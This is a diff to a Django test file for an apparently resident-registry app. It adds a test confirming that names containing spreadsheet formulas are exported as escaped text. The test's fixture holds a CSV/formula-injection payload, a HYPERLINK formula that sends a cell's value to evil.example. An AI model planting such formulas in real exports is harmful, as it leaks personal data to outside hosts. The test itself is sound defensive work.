@@ -6,6 +6,7 @@ from datetime import date, timedelta
 
 import pytest
 from django.core.exceptions import PermissionDenied
+from django.core.files.uploadedfile import SimpleUploadedFile
 from django.utils import timezone
 from openpyxl import load_workbook
 
@@ -20,6 +21,7 @@ from yizhan.people.validators import make_resident_id
 from yizhan.tests.factories import PersonFactory
 
 from .helpers import longyuan_person
+from .test_imports import HEADER
 
 
 def _names(content: bytes) -> list[str]:
@@ -95,7 +97,7 @@ def test_full_export_logs_each_batch_before_its_rows_leave(world, client_for, mo
     sent += b"".join(body)
     assert reveals.count() == 10
     row = reveals.first()
-    assert row.field == "id_number,mobile,address" and "上报" in row.reason and row.region_code == "330109113001"
+    assert (row.field, row.reason, row.region_code) == ("id_number,mobile,address", "Excel 导出：上报", "330109113001")
     assert len(_names(sent)) == 10
 
 
@@ -116,3 +118,31 @@ def test_export_query_count_does_not_grow_with_the_rows(world, client_for, djang
     with django_assert_num_queries(2):  # the people of the batch, their current target groups
         content = b"".join(response.streaming_content)
     assert len(_names(content)) == count
+
+
+def test_excel_outputs_never_hold_formulas_from_user_text(world, client_for):
+    from openpyxl import load_workbook
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    client = client_for(world.users["station_manager"])
+    row = [evil, "女", "1980-01-01", "", "", "", "", "330109113001", "", ""]
+    from openpyxl import Workbook
+
+    wb = Workbook()
+    wb.active.append(HEADER)
+    wb.active.append(row)
+    wb.active["A2"].data_type = "s"  # typed in as text, as a user of a spreadsheet program would
+    out = io.BytesIO()
+    wb.save(out)
+    response = client.post("/people/import/", {"file": SimpleUploadedFile("a.xlsx", out.getvalue())})
+    assert response.status_code == 302
+    batch_url = response["Location"]
+    assert client.post(batch_url).status_code == 302
+    with scopes_disabled():
+        assert Person.all_objects.get().name == evil  # stored as typed; only the Excel cells are made safe
+    exported = b"".join(client.get("/people/export/").streaming_content)
+    for content in (exported, client.get(batch_url + "check.xlsx").content):
+        wb = load_workbook(io.BytesIO(content))
+        cells = [c for ws in wb.worksheets for r in ws.iter_rows() for c in r]
+        assert [(c.value, c.data_type) for c in cells if evil in str(c.value)] == [("'" + evil, "s")]
+        assert not [c.value for c in cells if c.data_type == "f" or str(c.value).startswith("=")]
